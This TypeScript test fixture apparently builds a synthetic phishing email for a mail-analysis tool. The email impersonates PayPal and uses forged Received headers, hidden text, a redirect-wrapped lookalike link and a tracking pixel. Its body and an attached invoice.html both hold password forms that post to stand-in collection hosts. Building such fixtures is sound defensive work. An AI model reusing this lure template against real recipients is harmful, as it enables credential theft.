/** An invented lure with everything that a case page shows: a made-up way, hidden words, a wrapped link, a counter, a form, an attached page. */
export const STRANGE_SUBJECT = 'Ihr Konto wurde gesperrt'

export const strangeMail = (extra = ''): string =>
  [
    'Received: from edge.mail.example (edge.mail.example [192.0.2.4]) by store.mail.example with ESMTPS id 3; Tue, 1 Dec 2026 10:00:09 +0000',
    'Received: from sender.example (sender.example [192.0.2.9]) by edge.mail.example with ESMTP id 2; Tue, 1 Dec 2026 10:03:07 +0000 (UTC)',
    'Received: from bank.example by sender.example; Tue, 1 Dec 2026 11:00:05 +0100',
    'From: "PayPal Support" <service@secure-billing.example>',
    'Reply-To: collect@example.org',
    'To: reader@trap.example',
    'Date: Tue, 1 Dec 2026 10:00:00 +0000',
    'Subject: =?utf-8?Q?Ihr_Konto_wurde_gesperrt?=',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<html><body><div style="display:none">book garden river hidden words</div><h2>PayPal</h2>',
    '<p>Dear customer, your account has been limited. You must confirm your password within 24 hours or it will be closed.</p>',
    '<p><a href="https://www.google.com/url?q=https://paypal-login.secure-billing.example/verify?id=1">www.paypal.com/login</a></p>',
    '<img src="https://img.tracker.example/logo.png" alt="PayPal logo" width=120><img src="https://img.tracker.example/open.gif" width=1 height=1>',
    `<form action="https://collect.example/take"><input type=password name=p></form>${extra}`,
    `${'<p>Thank you for your patience.</p>'.repeat(40)}</body></html>`,
    '--b',
    'Content-Type: text/html; name="invoice.html"',
    'Content-Disposition: attachment; filename="invoice.html"',
    '',
    '<html><body><form action="https://collect.example/x" method=post><input type=password></form></body></html>',
    '--b--',
    '',
  ].join('\r\n')
